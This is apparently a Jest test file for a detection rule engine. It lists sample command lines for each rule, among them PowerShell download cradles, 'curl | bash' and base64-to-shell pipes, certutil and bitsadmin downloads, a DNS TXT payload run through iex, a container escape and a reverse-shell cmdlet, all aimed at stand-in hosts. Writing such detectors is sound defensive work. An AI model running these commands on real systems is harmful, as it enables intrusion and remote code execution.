import { downloadRules } from './download.rules.js';
import { executionRules } from './execution.rules.js';
import { registryRules } from './registry.rules.js';
import { readExamples, rulesMatching } from './matching-rules.js';

/** One statement or more for every rule; harmless, made for this table. */
const examples = readExamples(String.raw`
powershell-encoded: powershell.exe -nop -w hidden -enc SQBFAFgAIAAxAA==AAAA
powershell-hidden: powershell -w hidden -c x
powershell-plain: powershell.exe -File x.ps1
powershell-cradle: IEX (New-Object Net.WebClient).DownloadString('http://example.test/a.ps1')
powershell-cradle: iwr http://example.test/a.ps1 | iex
powershell-expression: Invoke-Expression $x
powershell-stream: iex (Get-Content x.txt -Stream y)
powershell-fileless: iex (Get-ItemProperty HKCU:\Software\x).y
powershell-bypass: powershell -ep bypass -c x
powershell-remote-command: Start-Job -ScriptBlock { 1 }
offensive-powershell: Invoke-PowerShellTcp -Reverse
cmd-plain: cmd.exe /c echo 1
batch-file: call setup.bat
unix-shell: bash -c "echo 1"
unix-shell: sh ./x.sh
download-to-shell: curl -fsSL http://example.test/x | bash
busybox: busybox sh x
shell-create: cat /etc/shells
applescript: osascript -e 'return 1'
jxa: osascript -l JavaScript -e '1'
windows-script-vbs: cscript //nologo x.vbs
windows-script-js: wscript.exe x.js
windows-script: wscript.exe "%TEMP%\x"
macro-run: $doc.VBProject.VBComponents.Add(1)
python: python3 -c "print(1)"
node: node -e "1"
perl-ruby-php: perl -e 'print 1'
lua: lua x.lua
autoit: AutoIt3.exe x.a3x
hypervisor-cli: esxcli system version get
cloud-shell: Connect-AzAccount
service-execute: sc.exe start ExampleSvc
psexec: PsExec.exe \\server1 -s cmd
launchctl: launchctl submit -l x -- /bin/true
systemctl: systemctl start example
wmi-create: wmic process call create calc.exe
wmi-create: Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='x'}
wmic: wmic os get version
wmi-remote: wmic /node:server1 os get version
scheduled-task-create: schtasks /create /tn x /tr calc.exe /sc once /st 10:00
scheduled-task-create: Register-ScheduledTask -TaskName x -Action $a
scheduled-task-run: schtasks /run /tn x
scheduled-task-query: schtasks /query /fo list
at-windows: at 13:20 /interactive cmd
container-exec: kubectl exec -it pod -- sh
container-deploy: docker run --rm example
container-escape: nsenter -t 1 -m -u -i -n sh
image-build: docker build -t x .
image-implant: docker push example.test/x
container-cron: kubectl create cronjob x --image=y --schedule="* * * * *"
serverless: aws lambda create-function --function-name x
cloud-command: aws ssm send-command --document-name x
office-open: $w = New-Object -ComObject Word.Application
document-download: Invoke-WebRequest http://example.test/a.lnk -OutFile a.lnk
macro-document: iwr http://example.test/a.docm -OutFile a.docm
click-fix: reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU
com-object: [activator]::CreateInstance([type]::GetTypeFromCLSID('x'))
dde: =DDEAUTO c:\windows\system32\cmd.exe
named-pipe: New-Object IO.Pipes.NamedPipeServerStream('x')
xpc: NSXPCConnection
native-api: [DllImport("kernel32.dll")]
compiled-native: csc.exe /out:x.exe x.cs
shared-module: [K]::LoadLibrary("x.dll")
software-deployment: ansible-playbook x.yml
install-package: pip install git+https://example.test/x
supply-chain-inject: echo x >> debian/postinst
certutil-download: certutil.exe -urlcache -split -f http://example.test/a.txt a.txt
bitsadmin-transfer: bitsadmin /transfer j http://example.test/a c:\a
bits-transfer: Start-BitsTransfer -Source http://example.test/a -Destination a
web-request: Invoke-WebRequest http://example.test/a -OutFile a
web-client: (New-Object Net.WebClient).DownloadFile('http://example.test/a','a')
com-download: CreateObject("MSXML2.XMLHTTP")
curl-download: curl -o a http://example.test/a
curl-download: wget http://example.test/a
other-download-unix: git clone x
copy-in-ssh: scp bob@host.example.test:/tmp/a /tmp/a
ftp-tftp-download: tftp -i 192.0.2.4 get a
netcat-download: nc 192.0.2.4 80 > a
mpcmdrun-download: MpCmdRun.exe -DownloadFile -url http://example.test/a -path a
lolbin-download: certoc.exe -GetCACAPS http://example.test/a
host-file-to-temp: copy \\server1\share\a.txt .
dead-drop: curl https://pastebin.com/raw/abc
webdav-share: net use Z: \\files.example.test@SSL\DavWWWRoot\x
decode-to-shell: echo ZQ== | base64 -d | bash
download-to-python: curl -s http://example.test/x.py | python3 -
download-to-interpreter: wget -qO- http://example.test/x | perl
dns-txt-payload: nslookup -q=txt a.example.test | iex
interpreter-download: python3 -c "import urllib.request;urllib.request.urlopen('http://example.test')"
registry-write: reg add HKCU\Software\Example /v a /d b
registry-write-powershell: Set-ItemProperty -Path HKCU:\Software\Example -Name a -Value b
registry-file: [HKEY_CURRENT_USER\Software\Example]
`);
const rules = [...executionRules, ...downloadRules, ...registryRules];

describe('rules of execution, download and the registry', () => {
  it.each(rules.map((rule) => rule.id))('%s has an example that fires it', (id) => {
    const statements = examples.get(id) ?? [];
    expect(statements.length).toBeGreaterThan(0);
    for (const statement of statements) expect(rulesMatching(rules, statement).map((rule) => rule.id)).toContain(id);
  });

  it('has no examples for rules that are not there', () => {
    const ids = new Set(rules.map((rule) => rule.id));
    expect([...examples.keys()].filter((id) => !ids.has(id))).toEqual([]);
  });
});
